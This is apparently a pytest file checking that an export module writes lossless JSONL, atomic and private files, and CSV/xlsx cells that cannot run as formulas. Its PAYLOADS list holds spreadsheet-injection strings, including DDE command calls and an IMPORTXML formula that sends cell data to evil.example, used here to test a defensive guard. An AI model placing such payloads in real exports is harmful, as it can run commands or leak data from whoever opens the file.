"""Exports: JSONL loses nothing, CSV runs nothing, and a reader never sees half a file."""

from __future__ import annotations

import csv
import importlib
import io
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.errors import InputError, LedgerError
from orchestrator.models import Json
from orchestrator.reports import output_files

COLUMNS = ("file_id", "confidence", "reasoning")

#: Cells that some spreadsheet takes for a formula, a command or a link.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   \t =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x1f=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "-",
    "=",
    "\tplain",
    "\rplain",
    "'=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_a_formula_becomes_text(payload: str) -> None:
    """With one ``'`` in front; dropping it gives the original back."""
    assert output_files.cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["invoice", "a=b", "a-b", "", "file-1", "x'y", "#1", "über", "漢字", "1+1", "a\tb"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    """Nothing is rewritten that need not be."""
    assert output_files.cell(text) == text


@pytest.mark.parametrize("value", [0.93, 0, 7, -1, -0.5])
def test_numbers_stay_numbers(value: float) -> None:
    """A negative one is no formula."""
    assert output_files.cell(value) == value


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_the_guard_can_be_undone(text: str) -> None:
    """Whatever the text, dropping one leading ``'`` where there is one gives it back."""
    assert (
        str(output_files.cell(text)).removeprefix("'") == text.removeprefix("'")
        or output_files.cell(text) == "'" + text
    )
    shown = str(output_files.cell(text))
    assert (shown[1:] if shown.startswith("'") else shown) == text


TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
ROWS = st.lists(
    st.tuples(TEXTS, st.none() | st.floats(0, 1), st.none() | TEXTS),
    max_size=20,
)


@given(ROWS)
def test_jsonl_is_lossless(rows: list[tuple[Json, ...]]) -> None:
    """ASCII, one object a line, columns in order, every value as it was."""
    out = io.StringIO()
    assert output_files.write_jsonl(out, COLUMNS, rows) == len(rows)
    lines = out.getvalue().split("\n")
    assert lines.pop() == ""
    assert out.getvalue().isascii()
    assert [tuple(json.loads(line).values()) for line in lines] == rows
    assert all(tuple(json.loads(line)) == COLUMNS for line in lines)


@given(ROWS)
def test_csv_holds_every_cell_and_no_formula(rows: list[tuple[Json, ...]]) -> None:
    """Line breaks, quotes and separators inside a cell break no row."""
    out = io.StringIO(newline="")
    assert output_files.write_csv(out, COLUMNS, rows) == len(rows)
    header, *read = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert tuple(header) == COLUMNS
    assert len(read) == len(rows)
    for (file_id, confidence, reasoning), (read_id, read_confidence, read_reasoning) in zip(rows, read, strict=True):
        assert read_id == output_files.harmless(output_files.cell(file_id))
        assert read_confidence == ("" if confidence is None else str(confidence))
        assert read_reasoning == output_files.harmless(output_files.cell(reasoning))


def test_text_is_quoted_and_numbers_are_not() -> None:
    """So that ``007`` stays a text and 0.5 a number."""
    out = io.StringIO()
    output_files.write_csv(out, COLUMNS, [("007", 0.5, None)])
    assert out.getvalue() == '"file_id","confidence","reasoning"\r\n"007",0.5,""\r\n'


def rows_of(count: int) -> Iterator[tuple[Json, ...]]:
    return ((f"f{n}", 0.5, "because") for n in range(count))


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_rows_are_written_as_they_come(tmp_path: Path, form: str) -> None:
    """A million rows need no more memory than one: the file grows while rows are still being made."""
    path = tmp_path / "out"
    sizes: list[int] = []

    def rows() -> Iterator[tuple[Json, ...]]:
        for row in rows_of(50_000):
            if row[0] == "f40000":
                (part,) = tmp_path.iterdir()
                sizes.append(part.stat().st_size)
            yield row

    assert output_files.export(path, form, COLUMNS, rows()) == 50_000
    assert sizes[0] > path.stat().st_size / 2


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_a_failed_export_leaves_what_was_there(tmp_path: Path, form: str) -> None:
    """Half way through, or at the very end; no part is left behind."""
    path = tmp_path / "out"
    path.write_text("yesterday's")

    def broken() -> Iterator[tuple[Json, ...]]:
        yield from rows_of(10_000)
        raise RuntimeError("half way")

    with pytest.raises(RuntimeError, match="half way"):
        output_files.export(path, form, COLUMNS, broken())
    assert [found.name for found in tmp_path.iterdir()] == ["out"]
    assert path.read_text() == "yesterday's"


def test_the_old_file_is_whole_until_the_new_one_is(tmp_path: Path) -> None:
    """Whoever opens it meanwhile reads yesterday's."""
    path = tmp_path / "out"
    path.write_text("yesterday's")

    def rows() -> Iterator[tuple[Json, ...]]:
        yield from rows_of(10_000)
        assert path.read_text() == "yesterday's"

    output_files.export(path, "jsonl", COLUMNS, rows())
    assert len(path.read_text().splitlines()) == 10_000


def test_an_export_is_private(tmp_path: Path) -> None:
    """Whatever the umask: documents are described in it."""
    before = os.umask(0)
    try:
        output_files.export(tmp_path / "out", "csv", COLUMNS, rows_of(1))
    finally:
        os.umask(before)
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o600


def test_a_link_in_the_parts_place_is_not_followed(tmp_path: Path) -> None:
    """The name of the temporary file can be guessed."""
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (tmp_path / f".out.{os.getpid()}.part").symlink_to(victim)
    with pytest.raises(LedgerError):
        output_files.export(tmp_path / "out", "csv", COLUMNS, rows_of(1))
    assert victim.read_text() == "precious"


def test_through_a_link_its_target_is_written(tmp_path: Path) -> None:
    """Whole or not at all, as without a link; the link stays."""
    (tmp_path / "shared").mkdir()
    target, path = tmp_path / "shared" / "latest", tmp_path / "out"
    target.write_text("yesterday's")
    path.symlink_to(target)
    output_files.export(path, "jsonl", COLUMNS, rows_of(1))
    assert path.is_symlink()
    assert json.loads(target.read_text())["file_id"] == "f0"


def test_what_was_there_keeps_its_mode(tmp_path: Path) -> None:
    """Whoever could read yesterday's can read today's; a new file has the mode that is asked for."""
    path = tmp_path / "out"
    output_files.export(path, "csv", COLUMNS, rows_of(1), mode=0o640)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    path.chmod(0o664)
    output_files.export(path, "csv", COLUMNS, rows_of(1))
    assert stat.S_IMODE(path.stat().st_mode) == 0o664


@pytest.mark.parametrize(
    ("form", "name", "found"),
    [(None, "x.csv", "csv"), (None, "x.XLSX", "xlsx"), (None, "x", "jsonl"), (None, None, "jsonl"),
     (None, "x.txt", "jsonl"), ("csv", "x.txt", "csv"), ("csv", "x.csv", "csv"), ("parquet", None, "parquet")],
)  # fmt: skip
def test_the_suffix_decides_the_format(form: str | None, name: str | None, found: str) -> None:
    """Unless the format is named."""
    assert output_files.format_of(form, None if name is None else Path(name)) == found


def test_a_suffix_and_a_format_that_contradict_each_other() -> None:
    """A file that is not what its name says helps nobody."""
    with pytest.raises(InputError, match="its name says parquet, --format says csv"):
        output_files.format_of("csv", Path("x.parquet"))


def test_escape_codes_are_harmless_in_csv(tmp_path: Path) -> None:
    """A terminal that shows the file obeys nothing in it; tabs and line breaks stay."""
    output_files.export(tmp_path / "out", "csv", COLUMNS, [("a", 0.5, "red \x1b[31m\x9b2J\ttab\nline")])
    assert (tmp_path / "out").read_bytes().endswith(b'"red \\x1b[31m\\x9b2J\ttab\nline"\r\n')


def test_a_csv_for_spreadsheets_begins_with_a_mark(tmp_path: Path) -> None:
    """Only where it is asked for."""
    output_files.export(tmp_path / "out", "csv", COLUMNS, rows_of(1), bom=True)
    assert (tmp_path / "out").read_bytes().startswith(b'\xef\xbb\xbf"file_id"')


def test_a_sheet_has_texts_and_numbers_and_no_formula(tmp_path: Path) -> None:
    """What a spreadsheet could run stays a text, and control characters break no file."""
    openpyxl = importlib.import_module("openpyxl")  # untyped
    rows: list[tuple[Json, ...]] = [("007", 0.5, "=1+1"), ("b", None, "red \x1b[31m")]
    assert output_files.export(tmp_path / "out.xlsx", "xlsx", COLUMNS, rows) == 2
    header, first, second = openpyxl.load_workbook(tmp_path / "out.xlsx")["results"].iter_rows()
    assert tuple(cell.value for cell in header) == COLUMNS
    assert [(cell.value, cell.data_type) for cell in first] == [("007", "s"), (0.5, "n"), ("=1+1", "s")]
    assert [cell.value for cell in second] == ["b", None, "red \\x1b[31m"]


def test_a_place_that_cannot_be_written_is_a_ledger_error(tmp_path: Path) -> None:
    """With the path and the system's words."""
    with pytest.raises(LedgerError, match="No such file"):
        output_files.export(tmp_path / "nowhere" / "out", "csv", COLUMNS, rows_of(1))


def test_a_full_disk_is_a_ledger_error() -> None:
    """The device that is always full."""
    with pytest.raises(LedgerError, match="No space left"):
        output_files.export(Path("/dev/full"), "jsonl", COLUMNS, rows_of(10_000))


def test_standard_output_gets_the_rows(capsys: pytest.CaptureFixture[str]) -> None:
    """And nothing else."""
    assert output_files.export(None, "jsonl", COLUMNS, rows_of(2)) == 2
    assert len(capsys.readouterr().out.splitlines()) == 2


def test_parquet_is_no_text() -> None:
    """It needs a file."""
    with pytest.raises(InputError, match="-o"):
        output_files.export(None, "parquet", COLUMNS, rows_of(1))


def test_parquet_holds_the_same_rows(tmp_path: Path) -> None:
    """With numbers as numbers."""
    pq = importlib.import_module("pyarrow.parquet")  # untyped
    assert output_files.export(tmp_path / "out", "parquet", COLUMNS, rows_of(3)) == 3
    assert pq.read_table(tmp_path / "out").to_pylist()[2] == {
        "file_id": "f2",
        "confidence": 0.5,
        "reasoning": "because",
    }
